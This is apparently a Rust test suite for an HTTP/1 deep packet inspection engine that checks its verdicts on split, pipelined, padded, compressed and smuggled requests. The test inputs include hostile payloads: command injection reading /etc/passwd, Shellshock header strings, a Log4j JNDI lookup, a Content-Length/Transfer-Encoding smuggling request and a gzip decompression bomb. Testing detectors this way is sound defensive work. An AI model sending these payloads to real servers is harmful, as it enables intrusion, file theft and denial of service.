//! The HTTP/1 stream driver with the built-in pack: verdicts do not depend on how the bytes
//! were cut, every pipelined request is judged, padding does not hide a payload, and hostile
//! framing or compression is a named verdict.

use std::io::Write;

use picket_dpi::{
    inspect_bytes, Decision, Http1Inspector, InspectConfig, InspectedRequest, OverLimit,
};
use picket_signatures::Engine;
use proptest::prelude::*;

fn engine() -> &'static Engine {
    static ENGINE: std::sync::OnceLock<Engine> = std::sync::OnceLock::new();
    ENGINE.get_or_init(|| Engine::builtin().expect("built-in pack"))
}

fn ids(r: &InspectedRequest) -> Vec<String> {
    let mut v: Vec<String> = r
        .verdict
        .hits
        .iter()
        .map(|h| engine().signatures()[h.signature as usize].id.clone())
        .collect();
    v.sort();
    v
}

fn in_pieces(raw: &[u8], cuts: &[usize], cfg: &InspectConfig) -> Vec<InspectedRequest> {
    let mut out = Vec::new();
    let mut inspector = Http1Inspector::new(engine(), cfg);
    let mut points: Vec<usize> = cuts.iter().map(|c| c % (raw.len() + 1)).collect();
    points.sort();
    let mut at = 0;
    for p in points {
        inspector.push(&raw[at..p], &mut out);
        at = p;
    }
    inspector.push(&raw[at..], &mut out);
    inspector.finish(&mut out);
    out
}

fn summary(reqs: &[InspectedRequest]) -> Vec<(Decision, Vec<String>)> {
    reqs.iter()
        .map(|r| (r.verdict.decision(), ids(r)))
        .collect()
}

fn corpus() -> Vec<Vec<u8>> {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../corpus");
    let mut v = Vec::new();
    for f in ["attacks.jsonl", "benign.jsonl"] {
        let text = std::fs::read_to_string(dir.join(f)).unwrap();
        for line in text.lines().filter(|l| !l.is_empty()) {
            let rec: serde_json::Value = serde_json::from_str(line).unwrap();
            if let Some(raw) = rec["raw"].as_str() {
                v.push(raw.as_bytes().to_vec());
            }
        }
    }
    v
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]
    /// Any corpus request, cut at up to 12 arbitrary points, gets the same verdict and the
    /// same findings as when it arrives whole.
    #[test]
    fn splitting_never_changes_the_verdict(
        index in any::<prop::sample::Index>(),
        cuts in proptest::collection::vec(any::<usize>(), 0..12),
    ) {
        static CORPUS: std::sync::OnceLock<Vec<Vec<u8>>> = std::sync::OnceLock::new();
        let corpus = CORPUS.get_or_init(corpus);
        let raw = &corpus[index.index(corpus.len())];
        let cfg = InspectConfig::default();
        let whole = summary(&inspect_bytes(engine(), &cfg, raw));
        prop_assert_eq!(summary(&in_pieces(raw, &cuts, &cfg)), whole);
    }
}

#[test]
fn byte_at_a_time_equals_whole() {
    let cfg = InspectConfig::default();
    for raw in corpus().iter().step_by(37) {
        let cuts: Vec<usize> = (1..raw.len()).collect();
        assert_eq!(
            summary(&in_pieces(raw, &cuts, &cfg)),
            summary(&inspect_bytes(engine(), &cfg, raw)),
            "{}",
            String::from_utf8_lossy(&raw[..raw.len().min(200)])
        );
    }
}

#[test]
fn every_pipelined_request_is_judged() {
    let stream = b"GET /a HTTP/1.1\r\nHost: x\r\n\r\n\
POST /b HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 13\r\n\r\n{\"q\":\"hello\"}\r\n\
GET /c?host=1.2.3.4%3Bcat%20/etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n\
POST /d HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\nX-Trailer: () { :; }; id\r\n\r\n\
GET /e HTTP/1.1\r\nHost: x\r\n\r\n";
    let reqs = inspect_bytes(engine(), &InspectConfig::default(), stream);
    let decisions: Vec<Decision> = reqs.iter().map(|r| r.verdict.decision()).collect();
    assert_eq!(
        decisions,
        [
            Decision::Allow,
            Decision::Allow,
            Decision::Block,
            Decision::Block,
            Decision::Allow
        ]
    );
    assert_eq!(reqs[1].body_len, 13);
    // Each request's wire length is exactly its share of the stream: what a proxy forwards.
    assert_eq!(
        reqs.iter().map(|r| r.wire_len).sum::<u64>(),
        stream.len() as u64
    );
    assert_eq!(reqs[0].wire_len, 28);
    assert!(
        ids(&reqs[2]).contains(&"PKT-SHELL-CMD".to_string()),
        "{:?}",
        ids(&reqs[2])
    );
    // The shellshock payload sits in a chunked trailer.
    assert!(
        ids(&reqs[3])
            .iter()
            .any(|i| i.starts_with("PKT-SHELLSHOCK")),
        "{:?}",
        ids(&reqs[3])
    );
}

#[test]
fn payload_after_padding_is_found_up_to_the_limit() {
    let cfg = InspectConfig::default();
    for pad in [8 << 10, 100 << 10, 128 << 10, 900 << 10] {
        let body = format!(
            "{{\"note\":\"{}\",\"host\":\"10.0.0.1;cat /etc/passwd\"}}",
            "a ".repeat(pad / 2)
        );
        let raw = format!(
            "POST /api HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        );
        let reqs = inspect_bytes(engine(), &cfg, raw.as_bytes());
        assert_eq!(reqs[0].verdict.decision(), Decision::Block, "padding {pad}");
    }
}

#[test]
fn over_the_limit_fails_open_or_closed_as_configured() {
    let body = "x".repeat(2 << 20);
    let raw = format!(
        "POST /up HTTP/1.1\r\nHost: x\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    );
    let open = InspectConfig::default();
    let reqs = inspect_bytes(engine(), &open, raw.as_bytes());
    let r = &reqs[0];
    assert_eq!(r.verdict.decision(), Decision::Alert);
    assert_eq!(ids(r), ["PKT-PROTO-BODY-LIMIT"]);
    assert_eq!(r.body_len, 2 << 20);
    let closed = InspectConfig {
        over_limit: OverLimit::FailClosed,
        ..InspectConfig::default()
    };
    assert_eq!(
        inspect_bytes(engine(), &closed, raw.as_bytes())[0]
            .verdict
            .decision(),
        Decision::Block
    );
}

#[test]
fn decompression_bomb_is_a_named_verdict() {
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    let zeros = vec![0u8; 1 << 20];
    for _ in 0..64 {
        gz.write_all(&zeros).unwrap();
    }
    let body = gz.finish().unwrap();
    let mut raw = format!(
        "POST /up HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Encoding: gzip\r\nContent-Length: {}\r\n\r\n",
        body.len()
    )
    .into_bytes();
    raw.extend_from_slice(&body);
    let reqs = inspect_bytes(engine(), &InspectConfig::default(), &raw);
    let r = &reqs[0];
    assert_eq!(r.verdict.decision(), Decision::Block);
    assert!(
        ids(r).contains(&"PKT-PROTO-BOMB".to_string()),
        "{:?}",
        ids(r)
    );
}

#[test]
fn gzip_body_is_inspected_decoded() {
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    gz.write_all(br#"{"x":"${jndi:ldap://203.0.113.5/a}"}"#)
        .unwrap();
    let body = gz.finish().unwrap();
    let mut raw = format!(
        "POST /api HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Encoding: gzip\r\nContent-Length: {}\r\n\r\n",
        body.len()
    )
    .into_bytes();
    raw.extend_from_slice(&body);
    let reqs = inspect_bytes(engine(), &InspectConfig::default(), &raw);
    assert!(
        ids(&reqs[0]).contains(&"PKT-LOG4J-JNDI".to_string()),
        "{:?}",
        ids(&reqs[0])
    );
}

#[test]
fn smuggling_desynchronises_the_stream() {
    let raw = b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG\
GET /admin HTTP/1.1\r\nHost: x\r\n\r\n";
    let mut out = Vec::new();
    let cfg = InspectConfig::default();
    let mut inspector = Http1Inspector::new(engine(), &cfg);
    inspector.push(raw, &mut out);
    assert_eq!(
        out.len(),
        1,
        "nothing after ambiguous framing is taken as a request"
    );
    assert_eq!(out[0].verdict.decision(), Decision::Block);
    assert!(inspector.ignored() > 0);
}

#[test]
fn oversized_head_is_a_verdict() {
    let mut raw = b"GET / HTTP/1.1\r\nHost: x\r\nX-Big: ".to_vec();
    raw.extend(std::iter::repeat_n(b'a', 70 << 10));
    let reqs = inspect_bytes(engine(), &InspectConfig::default(), &raw);
    assert_eq!(reqs[0].verdict.decision(), Decision::Block);
    let got = ids(&reqs[0]);
    assert!(got.contains(&"PKT-PROTO-HEAD-LARGE".to_string()), "{got:?}");
}

#[test]
fn a_head_waiting_for_its_body_is_reported_with_its_verdict() {
    let cfg = InspectConfig::default();
    let mut out = Vec::new();
    let mut inspector = Http1Inspector::new(engine(), &cfg);
    let head =
        b"\r\nPOST /f HTTP/1.1\r\nHost: a\r\nExpect: 100-continue\r\nContent-Length: 5\r\n\r\n";
    inspector.push(head, &mut out);
    let a = inspector.awaiting_body().expect("body awaited");
    assert_eq!(a.head_wire_len, head.len() as u64);
    assert!(a.head.expects_continue() && !a.head_blocked);
    inspector.push(b"ab", &mut out);
    assert!(inspector.awaiting_body().is_some() && out.is_empty());
    inspector.push(b"cde", &mut out);
    assert!(inspector.awaiting_body().is_none());
    assert_eq!(out[0].wire_len, head.len() as u64 + 5);

    let mut inspector = Http1Inspector::new(engine(), &cfg);
    inspector.push(
        b"POST /f HTTP/1.1\r\nHost: a\r\nUser-Agent: () { :; }; id\r\nContent-Length: 5\r\n\r\n",
        &mut out,
    );
    assert!(inspector.awaiting_body().unwrap().head_blocked);
}

/// A proxy that streams a body past the limit: the request is judged when the limit is
/// crossed, the rest is followed for framing without being held, the request is reported once
/// more when it ends, and the next request on the stream is inspected as usual.
#[test]
fn a_body_past_the_limit_is_judged_early_then_followed() {
    for chunked in [false, true] {
        let cfg = InspectConfig {
            body_limit: 1024,
            over_limit: OverLimit::FailOpen,
            ..InspectConfig::default()
        };
        let body = vec![b'a'; 100_000];
        let head = if chunked {
            "POST /up HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n".to_string()
        } else {
            format!(
                "POST /up HTTP/1.1\r\nHost: a\r\nContent-Length: {}\r\n\r\n",
                body.len()
            )
        };
        let mut wire = head.clone().into_bytes();
        if chunked {
            for part in body.chunks(7000) {
                wire.extend_from_slice(format!("{:x}\r\n", part.len()).as_bytes());
                wire.extend_from_slice(part);
                wire.extend_from_slice(b"\r\n");
            }
            wire.extend_from_slice(b"0\r\n\r\n");
        } else {
            wire.extend_from_slice(&body);
        }
        let first_len = wire.len();
        wire.extend_from_slice(
            b"GET /next HTTP/1.1\r\nHost: a\r\nUser-Agent: () { :; }; /bin/id\r\n\r\n",
        );

        let mut inspector = Http1Inspector::new(engine(), &cfg);
        let mut out = Vec::new();
        assert!(inspector.judge_over_limit().is_none());
        inspector.push(&wire[..2000], &mut out);
        assert!(out.is_empty());
        assert!(!inspector.streaming_body());
        let early = inspector
            .judge_over_limit()
            .expect("past the limit: judged now");
        assert_eq!(
            early.verdict.decision(),
            Decision::Alert,
            "chunked={chunked}"
        );
        assert_eq!(ids(&early), ["PKT-PROTO-BODY-LIMIT"]);
        assert!(inspector.streaming_body());
        assert!(inspector.judge_over_limit().is_none(), "judged once");
        for piece in wire[2000..].chunks(4096) {
            inspector.push(piece, &mut out);
        }
        assert_eq!(out.len(), 2, "chunked={chunked}");
        assert_eq!(out[0].wire_len as usize, first_len);
        assert_eq!(out[0].body_len as usize, body.len());
        assert_eq!(ids(&out[0]), ["PKT-PROTO-BODY-LIMIT"], "reported once");
        assert_eq!(out[1].verdict.decision(), Decision::Block);
        assert!(!inspector.streaming_body());
    }
}

/// An attack in the part of the body that is held is still found when the request is judged
/// early; fail-closed blocks at the limit.
#[test]
fn judging_early_inspects_the_held_part_and_follows_the_fail_mode() {
    for (mode, payload, want) in [
        (
            OverLimit::FailOpen,
            &b"cmd=x;cat /etc/passwd&"[..],
            Decision::Block,
        ),
        (OverLimit::FailClosed, &b"a=b&"[..], Decision::Block),
        (OverLimit::FailOpen, &b"a=b&"[..], Decision::Alert),
    ] {
        let cfg = InspectConfig {
            body_limit: 1024,
            over_limit: mode,
            ..InspectConfig::default()
        };
        let mut raw = b"POST /f HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 50000\r\n\r\n".to_vec();
        raw.extend_from_slice(payload);
        raw.resize(raw.len() + 3000, b'z');
        let mut inspector = Http1Inspector::new(engine(), &cfg);
        let mut out = Vec::new();
        inspector.push(&raw, &mut out);
        let early = inspector.judge_over_limit().expect("judged");
        assert_eq!(early.verdict.decision(), want, "{mode:?}");
    }
}
